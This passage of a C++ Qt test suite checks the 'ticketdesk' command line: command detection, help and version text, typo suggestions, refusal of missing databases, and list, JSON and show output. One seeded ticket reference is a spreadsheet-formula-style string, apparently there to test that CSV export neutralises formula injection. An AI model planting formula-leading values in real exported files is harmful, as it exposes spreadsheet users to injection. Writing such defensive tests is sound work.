// SPDX-FileCopyrightText: 2026 TicketDesk contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/application.h"
#include "app/commandline.h"
#include "app/ticketjson.h"
#include "core/buildinfo.h"
#include "core/localizedtext.h"
#include "store/ticketstore.h"
#include "support/clirun.h"
#include "support/filesizelimit.h"
#include "support/manualclock.h"

#include <QCoreApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTranslator>

using namespace TicketDesk;

namespace {

using Run = Test::CliRun;

Run run(const QStringList &args)
{
    return Test::runCli(args);
}

// `t` as the commands print it: its message in this reader's words, whatever form the database
// keeps it in.
Ticket worded(Ticket t)
{
    t.message = LocalizedText::wordStored(t.message);
    return t;
}

// Minimal RFC 4180 reader: enough to check what the exporter wrote.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text[i + 1] == QLatin1Char('"')) {
                field += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row << field;
            field.clear();
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() && text[i + 1] == QLatin1Char('\n')) {
            row << field;
            field.clear();
            rows << row;
            row.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

} // namespace

// `ticketdesk list/show/export/--version/--help`, run in-process on seeded stores.
class TestCommandLine final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void invocationDetection_data();
    void invocationDetection();
    void sharedOptionsBeforeTheCommand_data();
    void sharedOptionsBeforeTheCommand();
    void versionAndHelp();
    void helpListsDesktopOptions();
    void unknownCommand_data();
    void unknownCommand();
    void emptyListJson();
    void defaultDatabaseIsCreatedByWritingOnly();
    void missingDatabaseIsRefused_data();
    void missingDatabaseIsRefused();
    void listText();
    void readingCommandsDoNotWaitForAWriter();
    void listJson_data();
    void listJson();
    void usageErrors_data();
    void usageErrors();
    void usageErrorsSayWhat_data();
    void usageErrorsSayWhat();
    void show_data();
    void show();
    void showSaysWhyAFieldIsEmpty_data();
    void showSaysWhyAFieldIsEmpty();
    void showNotFound();
    void showSaysWhenFiledTwice();
    void showWordsAnAttachmentsName();
    void showSaysAnEventFromTheFutureIsEarly();
    void exportFiles_data();
    void exportFiles();
    void exportNeutralisesFormulas();
    void exportToAFullDiskKeepsTheOldFile_data();
    void exportToAFullDiskKeepsTheOldFile();
    void unopenableDatabase_data();
    void unopenableDatabase();
    void notADatabaseAddress_data();
    void notADatabaseAddress();
    void customersList();
    void customersListJson();
    void customersUsage_data();
    void customersUsage();

private:
    void seed();
    // An empty database at `path` (db() when none is named).
    void createEmpty(const QString &path = {});
    QString db() const { return m_dir->filePath(QStringLiteral("t.sqlite")); }
    std::unique_ptr<QTemporaryDir> m_dir;
    QList<Ticket> m_seeded;
};

const QString tricky = QStringLiteral("Refund, \"urgent\"\nsecond line");
const QString reference = QStringLiteral("=HD-77, \"mine\"");

void TestCommandLine::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    QCoreApplication::setOrganizationName(QStringLiteral("TicketDesk"));
    QCoreApplication::setApplicationName(QStringLiteral("ticketdesk-test"));
}

void TestCommandLine::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_seeded.clear();
}

void TestCommandLine::createEmpty(const QString &path)
{
    ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
    TicketStore store(clock);
    QVERIFY(store.open(path.isEmpty() ? db() : path).ok());
}

void TestCommandLine::seed()
{
    ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
    TicketStore store(clock);
    QVERIFY(store.open(db()).ok());
    const QList<QPair<QString, QString>> rows{
        {QStringLiteral("aaaaaaaa-0000-0000-0000-000000000001"), QStringLiteral("Login fails")},
        {QStringLiteral("aaaaaaaa-0000-0000-0000-000000000002"), tricky},
        {QStringLiteral("aaaaaaaa-0000-0000-0000-000000000003"), QStringLiteral("Card blocked")},
    };
    QList<qint64> ids;
    for (const auto &[customer, summary] : rows) {
        Ticket t;
        t.customerId = customer;
        t.summary = summary;
        t.description = QStringLiteral("about ") + summary;
        if (ids.isEmpty())
            t.createdBy = QStringLiteral("maria.ops"); // the others were made before operators were noted
        if (ids.isEmpty())
            t.attachments = {
                Attachment{0, QStringLiteral("shot.png"), QStringLiteral("image/png"), 5, QStringLiteral("/s")}};
        if (ids.size() == 1)
            t.reference = reference;
        QVERIFY(store.insertTicket(t) > 0);
        ids << t.id;
        clock.advance(60000);
    }
    const QString T = QStringLiteral("bbbbbbbb-0000-0000-0000-000000000001");
    // The oldest sent as the outbox sends, which records where to.
    const QList<Ticket> sent =
        store.claimQueued(QStringLiteral("sender"), 60000, 1, QStringLiteral("https://skala-sandbox.ripio.com"));
    QCOMPARE(sent.size(), qsizetype(1));
    QCOMPARE(sent.first().id, ids[0]);
    const QList<FactOutcome> o = store.applyFacts(
        {FactInput::forLocal(ids[0], Fact::accepted(T, clock.now())),
         FactInput::forRemote(
             Fact::webhook(T, TicketStatus::Created, QStringLiteral("SUP-1234"), QString(), QString(), clock.now())),
         FactInput::forLocal(ids[1], Fact::submit(clock.now())),
         FactInput::forLocal(
             ids[1],
             Fact::rejected(
                 LocalizedText("TicketDesk::RipioClient", "Ripio rejected the request (HTTP %1).").arg(400).toStored(),
                 clock.now()))});
    QVERIFY(o.last().committed);
    const RetryResult retry = store.createRetry(ids[1], {});
    QVERIFY(retry.ok());
    QCOMPARE(retry.retry->reference, reference);
    // The directory: one customer named by an imported list, one closed by Ripio.
    CustomerRecord named;
    named.customerId = rows[0].first;
    named.name = QStringLiteral("María López");
    named.email = QStringLiteral("maria@example.com");
    named.externalRef = QStringLiteral("CRM-1");
    QVERIFY(store.importCustomers({named}));
    QVERIFY(store.markCustomerClosed(rows[2].first, clock.now()));
    TicketFilter oldest;
    oldest.order = TicketFilter::Order::OldestFirst;
    m_seeded = store.tickets(oldest);
    QCOMPARE(m_seeded.size(), 4);
}

void TestCommandLine::invocationDetection_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<bool>("expected");
    for (const char *word :
         {"--version", "-v", "--help", "-h", "help", "list", "show", "export", "serve", "create", "retry", "customers"})
        QTest::newRow(word) << QStringList{QString::fromLatin1(word), QStringLiteral("x")} << true;
    QTest::newRow("none") << QStringList{} << false;
    QTest::newRow("demo is the GUI") << QStringList{QStringLiteral("--demo")} << false;
    QTest::newRow("command not first") << QStringList{QStringLiteral("--db"), QStringLiteral("list")} << false;
    // A word that is not an option is a command, known or not: a typo must not start the desktop.
    QTest::newRow("typo") << QStringList{QStringLiteral("lsit"), QStringLiteral("--json")} << true;
    QTest::newRow("unknown word") << QStringList{QStringLiteral("frobnicate")} << true;
    QTest::newRow("unknown option is the GUI's to refuse") << QStringList{QStringLiteral("--bogus")} << false;
}

void TestCommandLine::invocationDetection()
{
    QFETCH(QStringList, args);
    QFETCH(bool, expected);
    QCOMPARE(isCommandLineInvocation(args), expected);
}

void TestCommandLine::sharedOptionsBeforeTheCommand_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QStringList>("expected");
    const auto l = [](std::initializer_list<const char *> words) {
        QStringList out;
        for (const char *w : words)
            out << QString::fromLatin1(w);
        return out;
    };
    QTest::newRow("--db FILE list") << l({"--db", "t.sqlite", "list"}) << l({"list", "--db", "t.sqlite"});
    QTest::newRow("several, and after") << l({"--db=t.sqlite", "--config", "c.ini", "stats", "--json"})
                                        << l({"stats", "--db=t.sqlite", "--config", "c.ini", "--json"});
    QTest::newRow("api base") << l({"--api-base", "http://127.0.0.1:1/", "create", "--customer", "x"})
                              << l({"create", "--api-base", "http://127.0.0.1:1/", "--customer", "x"});
    // No command: the desktop's (a database called "list" included).
    QTest::newRow("desktop on a file") << l({"--db", "t.sqlite"}) << l({"--db", "t.sqlite"});
    QTest::newRow("desktop on a file named list") << l({"--db", "list"}) << l({"--db", "list"});
    // A typo after them is the command line's to refuse, not a desktop to start.
    QTest::newRow("a typo after them") << l({"--db", "t.sqlite", "lsit"}) << l({"lsit", "--db", "t.sqlite"});
    QTest::newRow("demo") << l({"--demo"}) << l({"--demo"});
    // Only the shared options move; the desktop's own stay the desktop's.
    QTest::newRow("a desktop option first") << l({"--palette", "dark", "list"}) << l({"--palette", "dark", "list"});
    QTest::newRow("already first") << l({"list", "--db", "t.sqlite"}) << l({"list", "--db", "t.sqlite"});
    // Help and version wherever they are typed with the desktop's options: not "Unknown option".
    QTest::newRow("help after --db") << l({"--db", "t.sqlite", "--help"}) << l({"--help", "--db", "t.sqlite"});
    QTest::newRow("version after --demo") << l({"--demo", "--version"}) << l({"--version", "--demo"});
    QTest::newRow("-h after --palette") << l({"--palette", "dark", "-h"}) << l({"-h", "--palette", "dark"});
    // After a command, "-v" is an option's value: the command runs (it printed the version).
    QTest::newRow("a value that reads -v")
        << l({"--db", "t.sqlite", "create", "--summary", "-v"}) << l({"create", "--db", "t.sqlite", "--summary", "-v"});
}

void TestCommandLine::sharedOptionsBeforeTheCommand()
{
    QFETCH(QStringList, args);
    QFETCH(QStringList, expected);
    QCOMPARE(commandFirst(args), expected);
}

void TestCommandLine::versionAndHelp()
{
    const Run v = run({QStringLiteral("--version")});
    QCOMPARE(v.code, 0);
    // The version, and the commit of a build from a Git checkout: two builds of one version differ.
    QCOMPARE(v.out, QStringLiteral("ticketdesk ") + buildVersion() + QLatin1Char('\n'));
    // (Sources without Git, a tarball, know no commit.)
    if (!buildRevision().isEmpty())
        QVERIFY2(QRegularExpression(QStringLiteral("^ticketdesk " TICKETDESK_VERSION " \\(git [0-9a-f]{12}\\)\n$"))
                     .match(v.out)
                     .hasMatch(),
                 qPrintable(v.out));
    for (const QString &h : {QStringLiteral("--help"), QStringLiteral("-h"), QStringLiteral("help")}) {
        const Run r = run({h});
        QCOMPARE(r.code, 0);
        for (const char *word :
             {"list", "show", "export", "serve", "create", "retry", "customers list", "--reference", "--db", "--config",
              "--listen", "--api-base", "--json", "--status", "create --from-csv FILE [--dry-run] [--json]",
              "customers import FILE [--dry-run] [--json]"})
            QVERIFY2(r.out.contains(QString::fromLatin1(word)), word);
        QVERIFY(r.err.isEmpty());
    }
    // After a command, that command's help, and only it: no store is opened, no engine started.
    const Run whole = run({QStringLiteral("--help")});
    const QStringList words{QStringLiteral("list"),  QStringLiteral("show"),      QStringLiteral("export"),
                            QStringLiteral("serve"), QStringLiteral("create"),    QStringLiteral("retry"),
                            QStringLiteral("watch"), QStringLiteral("customers"), QStringLiteral("db"),
                            QStringLiteral("stats")};
    for (const QString &command : words) {
        const Run r = run({command, QStringLiteral("--db"), db(), QStringLiteral("--help")});
        QCOMPARE(r.code, 0);
        QVERIFY(r.err.isEmpty());
        QVERIFY2(r.out.startsWith(QStringLiteral("Usage: ticketdesk %1 [OPTIONS]\n").arg(command)), qPrintable(r.out));
        QVERIFY2(r.out.contains(QStringLiteral("\n  %1 ").arg(command)), qPrintable(command));
        QVERIFY(r.out.contains(QStringLiteral("--db PATH")));
        QVERIFY(r.out.contains(QStringLiteral("Exit codes:")));
        QVERIFY(r.out.contains(QStringLiteral("ticketdesk --help")));
        QVERIFY(r.out.size() < whole.out.size());
        for (const QString &other : words) {
            if (other != command)
                QVERIFY2(!r.out.contains(QStringLiteral("\n  %1 ").arg(other)), qPrintable(command + u'/' + other));
        }
        QVERIFY(!r.out.contains(QStringLiteral("Desktop options")));
        // `help COMMAND` says the same.
        QCOMPARE(run({QStringLiteral("help"), command}).out, r.out);
    }
    QVERIFY(!QFile::exists(db()));
    // Each command's own options, and no other's.
    const Run create = run({QStringLiteral("create"), QStringLiteral("-h")});
    for (const char *text : {"--customer UUID", "--from-csv FILE", "--wait SECONDS", "--unconfirmed"})
        QVERIFY2(create.out.contains(QString::fromLatin1(text)), text);
    QVERIFY(!create.out.contains(QStringLiteral("--metrics")));
    const Run serveHelp = run({QStringLiteral("serve"), QStringLiteral("--help")});
    for (const char *text : {"--metrics HOST:PORT", "--tls-cert FILE", "TICKETDESK_WEBHOOK_SECRET"})
        QVERIFY2(serveHelp.out.contains(QString::fromLatin1(text)), text);
    QVERIFY(!serveHelp.out.contains(QStringLiteral("--wait SECONDS")));
    // `help` names no command it does not know.
    const Run unknown = run({QStringLiteral("help"), QStringLiteral("lsit")});
    QCOMPARE(unknown.code, 2);
    QVERIFY(unknown.out.isEmpty());
    QVERIFY(unknown.err.contains(QStringLiteral("'list'")));
    QCOMPARE(run({QStringLiteral("help"), QStringLiteral("help")}).out, whole.out);
    const Run serve = run({QStringLiteral("serve")});
    QCOMPARE(serve.code, 1);
    QCOMPARE(serve.err.count(QLatin1Char('\n')), 1);
}

void TestCommandLine::helpListsDesktopOptions()
{
    const Run r = run({QStringLiteral("--help")});
    QCOMPARE(r.code, 0);
    const qsizetype section = r.out.indexOf(QStringLiteral("Desktop options"));
    QVERIFY(section > 0);
    for (const char *option : {"--demo", "--db PATH", "--palette NAME", "--lang CODE"})
        QVERIFY2(r.out.indexOf(QString::fromLatin1(option), section) > section, option);
    // serve and the scripts read their secrets from these: the help names every one.
    const qsizetype environment = r.out.indexOf(QStringLiteral("Environment"));
    QVERIFY(environment > 0);
    for (const char *variable : {"TICKETDESK_CLIENT_ID", "TICKETDESK_CLIENT_SECRET", "TICKETDESK_WEBHOOK_SECRET",
                                 "TICKETDESK_WEBHOOK_SECRET_PREVIOUS", "TICKETDESK_DATABASE_PASSWORD"})
        QVERIFY2(r.out.indexOf(QString::fromLatin1(variable), environment) > environment, variable);
    QVERIFY(r.out.contains(QStringLiteral("(exit 1 if FAILED or REJECTED, 3 if\n")));
    QVERIFY(r.out.contains(QStringLiteral("Exit codes: 0 success, 1 failure, 2 usage error, 3 (create, retry)")));
}

void TestCommandLine::unknownCommand_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("suggestion"); // empty: none expected
    QTest::newRow("swapped letters") << QStringLiteral("lsit") << QStringLiteral("list");
    QTest::newRow("missing letter") << QStringLiteral("lst") << QStringLiteral("list");
    QTest::newRow("upper case") << QStringLiteral("LIST") << QStringLiteral("list");
    QTest::newRow("shwo") << QStringLiteral("shwo") << QStringLiteral("show");
    QTest::newRow("exprot") << QStringLiteral("exprot") << QStringLiteral("export");
    QTest::newRow("serv") << QStringLiteral("serv") << QStringLiteral("serve");
    QTest::newRow("creat") << QStringLiteral("creat") << QStringLiteral("create");
    QTest::newRow("retyr") << QStringLiteral("retyr") << QStringLiteral("retry");
    QTest::newRow("hlep") << QStringLiteral("hlep") << QStringLiteral("help");
    QTest::newRow("three edits away") << QStringLiteral("lisssst") << QString();
    QTest::newRow("nothing near") << QStringLiteral("frobnicate") << QString();
    QTest::newRow("empty word") << QString() << QString();
    QTest::newRow("dv") << QStringLiteral("dv") << QStringLiteral("db");
    // Two edits would rewrite all of `db`: that is no suggestion.
    QTest::newRow("short word") << QStringLiteral("x") << QString();
}

void TestCommandLine::unknownCommand()
{
    QFETCH(QString, command);
    QFETCH(QString, suggestion);
    const Run r = run({command, QStringLiteral("--json"), QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 2);
    QVERIFY(r.out.isEmpty());
    const QStringList lines = r.err.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 2);
    const QString expected =
        suggestion.isEmpty()
            ? QStringLiteral("ticketdesk: unknown command '%1'").arg(command)
            : QStringLiteral("ticketdesk: unknown command '%1'; did you mean '%2'?").arg(command, suggestion);
    QCOMPARE(lines[0], expected);
    QCOMPARE(lines[1], QStringLiteral("Try 'ticketdesk --help' for more information."));
    QVERIFY(!QFile::exists(db()));
}

void TestCommandLine::emptyListJson()
{
    createEmpty();
    const Run r = run({QStringLiteral("list"), QStringLiteral("--json"), QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 0);
    QCOMPARE(r.out.trimmed(), QStringLiteral("[]"));
    QVERIFY(r.err.isEmpty());
}

// Reading the default database before anything was stored there (another user, another data
// folder) says so; an empty new one answering "No tickets." looked like every ticket gone.
// Writing creates it.
void TestCommandLine::defaultDatabaseIsCreatedByWritingOnly()
{
    const QString expected =
        QStandardPaths::writableLocation(QStandardPaths::AppDataLocation) + QStringLiteral("/tickets.sqlite");
    QFile::remove(expected);
    for (const QStringList &reading :
         {QStringList{QStringLiteral("list"), QStringLiteral("--json")},
          QStringList{QStringLiteral("export"), m_dir->filePath(QStringLiteral("x.csv"))},
          QStringList{QStringLiteral("stats")}, QStringList{QStringLiteral("db"), QStringLiteral("status")}}) {
        const Run r = run(reading);
        QCOMPARE(r.code, 1);
        QVERIFY2(r.out.isEmpty(), qPrintable(r.out));
        QCOMPARE(r.err, QStringLiteral("ticketdesk: There is no database at %1, the default place, yet: nothing has "
                                       "been stored there as this user. Name the database with --db.\n")
                            .arg(expected));
        QVERIFY(!QFile::exists(expected));
    }
    const Run created =
        run({QStringLiteral("create"), QStringLiteral("--customer"),
             QStringLiteral("6f1c2a7e-8b1d-4c55-9a0e-3d2f4b5c6a71"), QStringLiteral("--summary"),
             QStringLiteral("First ticket here"), QStringLiteral("--api-base"), QStringLiteral("http://127.0.0.1:9")});
    QVERIFY(QFile::exists(expected));
    const Run r = run({QStringLiteral("list"), QStringLiteral("--json")});
    QCOMPARE(r.code, 0);
    QVERIFY2(r.out.contains(QStringLiteral("First ticket here")), qPrintable(r.out + created.err));
}

void TestCommandLine::missingDatabaseIsRefused_data()
{
    QTest::addColumn<QStringList>("command");
    const QString csv = QStringLiteral("out.csv");
    QTest::newRow("list") << QStringList{QStringLiteral("list")};
    QTest::newRow("list --json") << QStringList{QStringLiteral("list"), QStringLiteral("--json")};
    QTest::newRow("show") << QStringList{QStringLiteral("show"), QStringLiteral("1")};
    QTest::newRow("export") << QStringList{QStringLiteral("export"), csv};
    QTest::newRow("stats") << QStringList{QStringLiteral("stats")};
    QTest::newRow("customers list") << QStringList{QStringLiteral("customers"), QStringLiteral("list")};
    QTest::newRow("watch") << QStringList{QStringLiteral("watch")};
    // They act only on what the database holds.
    QTest::newRow("retry") << QStringList{QStringLiteral("retry"), QStringLiteral("1")};
    QTest::newRow("a list") << QStringList{QStringLiteral("create"), QStringLiteral("--from-csv"),
                                           QStringLiteral("rows.csv")};
    QTest::newRow("a dry run from a list") << QStringList{QStringLiteral("create"), QStringLiteral("--from-csv"),
                                                          QStringLiteral("rows.csv"), QStringLiteral("--dry-run")};
    QTest::newRow("a customer import's dry run") << QStringList{
        QStringLiteral("customers"), QStringLiteral("import"), QStringLiteral("rows.csv"), QStringLiteral("--dry-run")};
}

// A mistyped --db is an error, not a new, empty database that answers "No tickets.".
void TestCommandLine::missingDatabaseIsRefused()
{
    QFETCH(QStringList, command);
    const QString csv = m_dir->filePath(QStringLiteral("out.csv"));
    command.replaceInStrings(QRegularExpression(QStringLiteral("^out\\.csv$")), csv);
    // A list a dry run could plan.
    const QString rows = m_dir->filePath(QStringLiteral("rows.csv"));
    QFile list(rows);
    QVERIFY(list.open(QIODevice::WriteOnly));
    list.write("customerId,summary\n6f1c2a7e-8b1d-4c55-9a0e-3d2f4b5c6a71,Card blocked\n");
    list.close();
    command.replaceInStrings(QRegularExpression(QStringLiteral("^rows\\.csv$")), rows);
    const Run r = run(command + QStringList{QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 1);
    QVERIFY2(r.out.isEmpty(), qPrintable(r.out));
    QCOMPARE(r.err, QStringLiteral("ticketdesk: The database %1 does not exist.\n").arg(db()));
    QVERIFY(!QFile::exists(db()));
    QVERIFY(!QFile::exists(csv));
}

// A writer's long transaction (serve's batches, a big import in the desktop) must not make the
// commands that only read fail or wait: in write-ahead-log mode they read the last commit.
void TestCommandLine::readingCommandsDoNotWaitForAWriter()
{
    seed();
    const QString holder = QStringLiteral("writer-holding-the-lock");
    {
        QSqlDatabase writer = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), holder);
        writer.setDatabaseName(db());
        QVERIFY(writer.open());
        QSqlQuery q(writer);
        QVERIFY2(q.exec(QStringLiteral("BEGIN IMMEDIATE")), qPrintable(q.lastError().text()));
        const QList<QStringList> commands{
            {QStringLiteral("list")},
            {QStringLiteral("show"), QString::number(m_seeded[0].id)},
            {QStringLiteral("export"), m_dir->filePath(QStringLiteral("out.csv"))},
            {QStringLiteral("stats"), QStringLiteral("--json")},
            {QStringLiteral("customers"), QStringLiteral("list")},
        };
        for (const QStringList &command : commands) {
            QElapsedTimer timer;
            timer.start();
            const Run r = run(command + QStringList{QStringLiteral("--db"), db()});
            QVERIFY2(r.code == 0, qPrintable(command.join(u' ') + QStringLiteral(": ") + r.err));
            QVERIFY2(timer.elapsed() < 2000, qPrintable(command.join(u' ')));
        }
        QVERIFY(run({QStringLiteral("list"), QStringLiteral("--db"), db()}).out.contains(QStringLiteral("SUP-1234")));
        QVERIFY(q.exec(QStringLiteral("ROLLBACK")));
    }
    QSqlDatabase::removeDatabase(holder);
}

void TestCommandLine::listText()
{
    seed();
    const Run r = run({QStringLiteral("list"), QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 0);
    const QStringList lines = r.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 5); // header + 4 tickets, the summary's newline flattened
    QVERIFY(lines[0].startsWith(QStringLiteral("ID")));
    const qsizetype statusColumn = lines[0].indexOf(QStringLiteral("STATUS"));
    const qsizetype keyColumn = lines[0].indexOf(QStringLiteral("ISSUE KEY"));
    QVERIFY(statusColumn > 0 && keyColumn > statusColumn);
    const QStringList statuses{QStringLiteral("CREATED"), QStringLiteral("REJECTED"), QStringLiteral("QUEUED"),
                               QStringLiteral("QUEUED")};
    for (int i = 0; i < 4; ++i) {
        QCOMPARE(lines[i + 1].indexOf(statuses[i]), statusColumn); // aligned
        QVERIFY(lines[i + 1].startsWith(QString::number(m_seeded[i].id)));
    }
    QCOMPARE(lines[1].indexOf(QStringLiteral("SUP-1234")), keyColumn);
    QVERIFY(lines[2].contains(QStringLiteral("Refund, \"urgent\" second line")));
    // Times in UTC, as the column's title says, whatever the time zone.
    const qsizetype createdColumn = lines[0].indexOf(QStringLiteral("CREATED (UTC)"));
    QVERIFY(createdColumn > keyColumn);
    QCOMPARE(lines[1].indexOf(m_seeded[0].createdAt.toUTC().toString(QStringLiteral("yyyy-MM-dd HH:mm"))),
             createdColumn);
}

void TestCommandLine::listJson_data()
{
    QTest::addColumn<QStringList>("extra");
    QTest::addColumn<QList<int>>("expected"); // indexes into the seeded tickets
    QTest::newRow("all") << QStringList{} << QList<int>{0, 1, 2, 3};
    QTest::newRow("queued") << QStringList{QStringLiteral("--status"), QStringLiteral("QUEUED")} << QList<int>{2, 3};
    QTest::newRow("lower case") << QStringList{QStringLiteral("--status"), QStringLiteral("created")} << QList<int>{0};
    QTest::newRow("equals form") << QStringList{QStringLiteral("--status=Rejected")} << QList<int>{1};
    QTest::newRow("none failed") << QStringList{QStringLiteral("--status"), QStringLiteral("FAILED")} << QList<int>{};
}

void TestCommandLine::listJson()
{
    QFETCH(QStringList, extra);
    QFETCH(QList<int>, expected);
    seed();
    const Run r =
        run(QStringList{QStringLiteral("list"), QStringLiteral("--json"), QStringLiteral("--db"), db()} + extra);
    QCOMPARE(r.code, 0);
    QJsonParseError error;
    const QJsonDocument doc = QJsonDocument::fromJson(r.out.toUtf8(), &error);
    QCOMPARE(error.error, QJsonParseError::NoError);
    QVERIFY(doc.isArray());
    const QJsonArray array = doc.array();
    QCOMPARE(array.size(), expected.size());
    for (qsizetype i = 0; i < array.size(); ++i) {
        const std::optional<Ticket> t = ticketFromJson(array[i].toObject());
        QVERIFY(t);
        QCOMPARE(*t, worded(m_seeded[expected[i]]));
    }
}

void TestCommandLine::usageErrors_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::newRow("unknown command") << QStringList{QStringLiteral("frobnicate")};
    QTest::newRow("unknown option") << QStringList{QStringLiteral("list"), QStringLiteral("--bogus")};
    QTest::newRow("bad status") << QStringList{QStringLiteral("list"), QStringLiteral("--status"),
                                               QStringLiteral("DONE")};
    QTest::newRow("status without value") << QStringList{QStringLiteral("list"), QStringLiteral("--status")};
    // The parser would take "--json" as the database and print text from the --db that follows.
    QTest::newRow("value missing") << QStringList{QStringLiteral("list"), QStringLiteral("--db"),
                                                  QStringLiteral("--json")};
    QTest::newRow("show without id") << QStringList{QStringLiteral("show")};
    QTest::newRow("show two ids") << QStringList{QStringLiteral("show"), QStringLiteral("1"), QStringLiteral("2")};
    QTest::newRow("export bad extension") << QStringList{QStringLiteral("export"), QStringLiteral("out.txt")};
    QTest::newRow("export no file") << QStringList{QStringLiteral("export")};
    QTest::newRow("export bad status") << QStringList{QStringLiteral("export"), QStringLiteral("a.csv"),
                                                      QStringLiteral("--status"), QStringLiteral("x")};
    QTest::newRow("json on export") << QStringList{QStringLiteral("export"), QStringLiteral("a.csv"),
                                                   QStringLiteral("--json")};
    // A mistyped settings file is not taken for an empty one, by the reading commands too.
    for (const QStringList &command :
         {QStringList{QStringLiteral("list")}, QStringList{QStringLiteral("stats")},
          QStringList{QStringLiteral("db"), QStringLiteral("status")},
          QStringList{QStringLiteral("customers"), QStringLiteral("import"), QStringLiteral("customers.csv")}})
        QTest::newRow(qPrintable(command.join(QLatin1Char(' ')) + QStringLiteral(" --config missing")))
            << command + QStringList{QStringLiteral("--config"), QStringLiteral("/nonexistent/ticketdesk.ini")};
}

void TestCommandLine::usageErrors()
{
    QFETCH(QStringList, args);
    const Run r = run(args + QStringList{QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 2);
    QVERIFY(r.out.isEmpty());
    QVERIFY(r.err.startsWith(QStringLiteral("ticketdesk: ")));
    // A known command's mistake points to that command's help, which lists its options.
    const QString command = args.first();
    const QString help = command == QLatin1StringView("frobnicate")
                             ? QStringLiteral("Try 'ticketdesk --help' for more information.")
                             : QStringLiteral("Try 'ticketdesk %1 --help' for more information.").arg(command);
    QVERIFY2(r.err.endsWith(help + QLatin1Char('\n')), qPrintable(r.err));
}

// The sentence names the mistake, not a symptom of it.
void TestCommandLine::usageErrorsSayWhat_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("says");
    const QString twice = QStringLiteral("--%1 is given more than once");
    QTest::newRow("list status twice") << QStringList{QStringLiteral("list"), QStringLiteral("--status"),
                                                      QStringLiteral("QUEUED"), QStringLiteral("--status"),
                                                      QStringLiteral("FAILED")}
                                       << QStringLiteral("ticketdesk: list: ") + twice.arg(QStringLiteral("status"));
    QTest::newRow("export status twice") << QStringList{QStringLiteral("export"), QStringLiteral("a.csv"),
                                                        QStringLiteral("--status"), QStringLiteral("QUEUED"),
                                                        QStringLiteral("--status=FAILED")}
                                         << twice.arg(QStringLiteral("status"));
    QTest::newRow("watch status twice") << QStringList{QStringLiteral("watch"), QStringLiteral("--status"),
                                                       QStringLiteral("QUEUED"), QStringLiteral("--status"),
                                                       QStringLiteral("QUEUED")}
                                        << twice.arg(QStringLiteral("status"));
    QTest::newRow("db twice") << QStringList{QStringLiteral("list"), QStringLiteral("--db"),
                                             QStringLiteral("/tmp/other.sqlite")}
                              << twice.arg(QStringLiteral("db"));
    QTest::newRow("show -1") << QStringList{QStringLiteral("show"), QStringLiteral("-1")}
                             << QStringLiteral("ticketdesk: show: '-1' is not an option, and no ticket number or "
                                               "count is negative");
    QTest::newRow("retry -12") << QStringList{QStringLiteral("retry"), QStringLiteral("-12")}
                               << QStringLiteral("'-12' is not an option, and no ticket number or count is negative");
}

void TestCommandLine::usageErrorsSayWhat()
{
    QFETCH(QStringList, args);
    QFETCH(QString, says);
    const Run r = run(args + QStringList{QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 2);
    QVERIFY(r.out.isEmpty());
    QVERIFY2(r.err.contains(says), qPrintable(r.err));
}

void TestCommandLine::show_data()
{
    QTest::addColumn<int>("index");
    QTest::addColumn<bool>("byTicketId");
    QTest::addColumn<bool>("inCapitals");
    QTest::newRow("by local id") << 0 << false << false;
    QTest::newRow("by ticketId") << 0 << true << false;
    // A UUID is the same in either case: as copied from a mail or a spreadsheet that shouts.
    QTest::newRow("by ticketId in capitals") << 0 << true << true;
    QTest::newRow("retried ticket") << 1 << false << false;
    QTest::newRow("retry") << 3 << false << false;
}

void TestCommandLine::show()
{
    QFETCH(int, index);
    QFETCH(bool, byTicketId);
    QFETCH(bool, inCapitals);
    seed();
    const Ticket &t = m_seeded[index];
    // The first ticket's webhooks: the one applied to it, and a refused one that named it.
    if (index == 0) {
        ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(10, 0), Qt::UTC));
        TicketStore store(clock);
        QVERIFY(store.open(db()).ok());
        DeliveryRecord applied;
        applied.receivedAt = clock.now();
        applied.eventType = QStringLiteral("SUPPORT_TICKET.CREATED");
        applied.ticketId = t.ticketId;
        applied.localTicketId = t.id;
        applied.verdict = QStringLiteral("applied");
        applied.peerAddress = QStringLiteral("198.51.100.7");
        applied.bodySize = 285;
        QVERIFY(store.recordDelivery(applied) > 0);
        DeliveryRecord refused = applied;
        refused.receivedAt = clock.now().addSecs(5);
        refused.localTicketId = 0;
        refused.verdict = QStringLiteral("unauthorized");
